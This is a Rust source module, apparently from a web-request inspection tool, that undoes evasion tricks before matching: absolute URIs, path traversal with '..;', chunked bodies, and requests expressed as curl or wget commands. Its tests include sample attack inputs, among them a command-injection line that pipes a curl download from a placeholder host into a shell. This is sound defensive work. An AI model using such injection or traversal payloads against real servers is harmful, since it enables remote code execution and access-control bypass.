//! a request sent in an unusual way → the same as a server comes to see it: one absolute path, one body.
//!
//! Absolute URIs, `/x/../`, `;x` in the path, chunks, and commands that send a request (`curl`, `wget`). Deliberately
//! absent: escapes (`decode`), which are peeled first.

use std::borrow::Cow;

/// A request line longer than this is left as it is.
const MAX_LINE: usize = 16 * 1024;
const MAX_SEGMENTS: usize = 256;
const MAX_WORDS: usize = 512;
/// In a line of a log the request stands near the start.
const LOG_HEAD: usize = 1024;

const VERBS: &[&str] =
    &["GET ", "POST ", "PUT ", "HEAD ", "DELETE ", "OPTIONS ", "PATCH ", "MOVE ", "COPY ", "PROPFIND "];

/// The body in one piece; borrowed where it was.
pub(super) fn dechunk(payload: &str) -> Cow<'_, str> {
    if memchr::memmem::find(payload.as_bytes(), b"hunked").is_none() {
        return Cow::Borrowed(payload);
    }
    let Some((head, body)) = split_body(payload) else { return Cow::Borrowed(payload) };
    let chunked = head.lines().any(|line| {
        line.split_once(':').is_some_and(|(name, value)| {
            name.trim().eq_ignore_ascii_case("transfer-encoding") && value.to_ascii_lowercase().contains("chunked")
        })
    });
    if !chunked {
        return Cow::Borrowed(payload);
    }
    let mut out = String::with_capacity(payload.len());
    out.push_str(head);
    out.push_str("\r\n\r\n");
    let mut rest = body;
    let mut pieces = 0;
    while let Some((size, after)) = rest.split_once('\n') {
        let digits = size.trim().split(';').next().unwrap_or("").trim();
        let Ok(size) = usize::from_str_radix(digits, 16) else { break };
        pieces += 1;
        if size == 0 {
            return Cow::Owned(out);
        }
        let at = after.floor_char_boundary(size.min(after.len()));
        out.push_str(&after[..at]);
        rest = after[at..].trim_start_matches(['\r', '\n']);
    }
    if pieces == 0 {
        return Cow::Borrowed(payload);
    }
    out.push_str(rest);
    Cow::Owned(out)
}

fn split_body(payload: &str) -> Option<(&str, &str)> {
    payload.split_once("\r\n\r\n").or_else(|| payload.split_once("\n\n"))
}

/// The request line as it would be without tricks; none where it has none. Takes decoded text.
pub(super) fn request_line(text: &str) -> Option<String> {
    let (verb, target) = verb_and_target(text)?;
    let (path, absolute) = match target.find("://") {
        Some(at) if target[..at].bytes().all(|b| b.is_ascii_alphabetic()) => {
            let rest = &target[at + 3..];
            let end = rest.find(['/', '?', ' ', '\n']).unwrap_or(rest.len());
            (&rest[end..], true)
        }
        _ => (target, false),
    };
    let end = path.find(['?', ' ', '\n', '"']).unwrap_or(path.len());
    let (path, rest) = path.split_at(end);
    let plain = plain_path(path);
    if !absolute && plain.is_none() {
        return None;
    }
    let path = plain.as_deref().unwrap_or(path);
    let slash = if path.is_empty() { "/" } else { "" };
    let version = if rest.contains(" HTTP/") { "" } else { " HTTP/1.1" };
    Some(format!("{verb}{slash}{path}{rest}{version}"))
}

fn verb_and_target(text: &str) -> Option<(&'static str, &str)> {
    let line = &text[..text.find('\n').unwrap_or(text.len()).min(text.floor_char_boundary(MAX_LINE))];
    let verb = |line: &str| VERBS.iter().find(|verb| line.starts_with(**verb)).copied();
    if let Some(verb) = verb(line) {
        return Some((verb, line[verb.len()..].trim_start()));
    }
    if line.starts_with("http://") || line.starts_with("https://") {
        return Some(("GET ", line));
    }
    let head = &line[..line.floor_char_boundary(LOG_HEAD)];
    memchr::memchr_iter(b'"', head.as_bytes()).take(8).find_map(|at| {
        let quoted = &line[at + 1..];
        verb(quoted).map(|verb| (verb, &quoted[verb.len()..]))
    })
}

/// Without `;x` behind its parts, and with its steps up taken; none where there are neither.
fn plain_path(path: &str) -> Option<String> {
    let odd = path.contains(';') || path.contains("/..") || path.contains("/./") || path.contains("//");
    if !odd || !path.starts_with('/') {
        return None;
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/').take(MAX_SEGMENTS) {
        match part.split(';').next().unwrap_or("") {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    let mut out = String::with_capacity(path.len());
    for part in parts {
        out.push('/');
        out.push_str(part);
    }
    if path.ends_with('/') || out.is_empty() {
        out.push('/');
    }
    Some(out)
}

/// The request that a `curl` or `wget` sends, for each the first; none where the text has no such command.
pub(super) fn sent_by_command(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let at = ["curl ", "wget "].iter().filter_map(|it| memchr::memmem::find(bytes, it.as_bytes())).min()?;
    // Within a request it is what the attacker has the victim run.
    if VERBS.iter().any(|verb| text.starts_with(verb)) || text[..at].contains(['{', '<', '\n']) {
        return None;
    }
    let words = words(&text[at..text.floor_char_boundary(text.len().min(at + MAX_LINE))]);
    let (mut verb, mut url, mut headers, mut body) = (None, None, String::new(), String::new());
    let mut words = words.into_iter().skip(1);
    while let Some(word) = words.next() {
        let (name, joined) = match word.split_once('=') {
            Some((name, value)) if name.starts_with("--") => (name.to_owned(), Some(value.to_owned())),
            _ => (word.clone(), None),
        };
        let mut value = || joined.clone().or_else(|| words.next()).unwrap_or_default();
        match name.as_str() {
            "-X" | "--request" | "--method" => verb = Some(value()),
            "-H" | "--header" => {
                headers.push_str(&value());
                headers.push_str("\r\n");
            }
            "-A" | "--user-agent" => headers.push_str(&format!("User-Agent: {}\r\n", value())),
            "-b" | "--cookie" => headers.push_str(&format!("Cookie: {}\r\n", value())),
            "-e" | "--referer" => headers.push_str(&format!("Referer: {}\r\n", value())),
            "-d" | "--data" | "--data-raw" | "--data-binary" | "--data-urlencode" | "--data-ascii" | "--json"
            | "--post-data" | "--body-data" | "-F" | "--form" => {
                if !body.is_empty() {
                    body.push('&');
                }
                body.push_str(&value());
                verb.get_or_insert_with(|| "POST".to_owned());
            }
            "-T" | "--upload-file" => {
                body.push_str(&value());
                verb.get_or_insert_with(|| "PUT".to_owned());
            }
            "-I" | "--head" => verb = Some("HEAD".to_owned()),
            "--url" => url = Some(value()),
            "|" | ";" | "&&" | "||" => break,
            _ if let Some(joined) = word.strip_prefix("-X").filter(|it| !it.is_empty()) => {
                verb = Some(joined.to_owned());
            }
            _ if word.starts_with('-') => {}
            _ if word.contains("://") || (word.contains('/') && word.contains('.')) || word.contains(":") => {
                url.get_or_insert(word);
            }
            _ => {}
        }
    }
    let url = url?;
    let rest = url.split_once("://").map_or(url.as_str(), |it| it.1);
    let target = rest.find('/').map_or("/", |at| &rest[at..]);
    Some(format!("{} {target} HTTP/1.1\r\n{headers}\r\n{body}", verb.as_deref().unwrap_or("GET")))
}

/// A shell's words; quotes are taken off.
fn words(text: &str) -> Vec<String> {
    let (mut out, mut word, mut quote, mut open) = (Vec::new(), String::new(), None, false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if out.len() >= MAX_WORDS {
            break;
        }
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some('\''), _) => word.push(c),
            (Some(_) | None, '\\') => match chars.next() {
                // A line goes on.
                Some('\n') if quote.is_none() => {}
                Some(next) => word.push(next),
                None => {}
            },
            (Some(_), _) => word.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                open = true;
            }
            (None, '$') if matches!(chars.peek(), Some('\'')) => {}
            (None, c) if c.is_whitespace() => {
                if open || !word.is_empty() {
                    out.push(std::mem::take(&mut word));
                }
                open = false;
            }
            (None, c) => word.push(c),
        }
    }
    if open || !word.is_empty() {
        out.push(word);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tricks_in_the_path_are_undone() {
        for (from, to) in [
            ("GET http://a.test:8080/x/y?z=1 HTTP/1.1", Some("GET /x/y?z=1 HTTP/1.1")),
            ("GET /a/..;/b;v=1/./c HTTP/1.0\nHost: d", Some("GET /b/c HTTP/1.0")),
            ("http://a.test", Some("GET / HTTP/1.1")),
            ("POST /a/b/../../c/ HTTP/1.1", Some("POST /c/ HTTP/1.1")),
            ("192.0.2.1 - - [x] \"GET /b;x/c HTTP/1.1\" 200", Some("GET /b/c HTTP/1.1\" 200")),
            ("GET /a/b?c=/../d;e HTTP/1.1", None),
            ("PATCH / HTTP/1.1", None),
            ("ls /a/../b", None),
            ("", None),
        ] {
            assert_eq!(request_line(from).as_deref(), to, "{from}");
        }
    }

    #[test]
    fn chunks_are_joined() {
        let text = "POST / HTTP/1.1\r\nTransfer-Encoding: Chunked\r\n\r\n4\r\nab\r\n\r\n3;x=1\r\ncde\r\n0\r\n\r\n";
        assert_eq!(dechunk(text), "POST / HTTP/1.1\r\nTransfer-Encoding: Chunked\r\n\r\nab\r\ncde");
        let cut = "POST / HTTP/1.1\nTransfer-Encoding: chunked\n\nff\nabc";
        assert!(dechunk(cut).ends_with("abc"));
        for same in ["chunked", "POST / HTTP/1.1\n\nchunked 4\nabcd", "A\nTransfer-Encoding: chunked\n\nzz\nabc"] {
            assert_eq!(dechunk(same), same);
        }
    }

    #[test]
    fn a_command_sends_a_request() {
        let sent = |text: &str| sent_by_command(text).unwrap_or_default();
        assert_eq!(
            sent(r#"curl -sk -X PUT 'http://a.test:1/b?c' -H "D: e" --data-raw 'f'\''g'"#),
            "PUT /b?c HTTP/1.1\r\nD: e\r\n\r\nf'g"
        );
        assert_eq!(sent("$ curl -XPOST a.test:9200/_search -d '{\"q\":1}'"), "POST /_search HTTP/1.1\r\n\r\n{\"q\":1}");
        assert_eq!(sent("wget --post-data=x=1 http://a.test/b"), "POST /b HTTP/1.1\r\n\r\nx=1");
        assert_eq!(sent_by_command("GET /?x=;curl http://a.test/b|sh HTTP/1.1"), None);
        assert_eq!(sent_by_command("curl "), None);
        assert_eq!(sent_by_command("echo ä"), None);
        assert_eq!(sent("curl \"http://ä/€"), "GET /€ HTTP/1.1\r\n\r\n");
    }
}
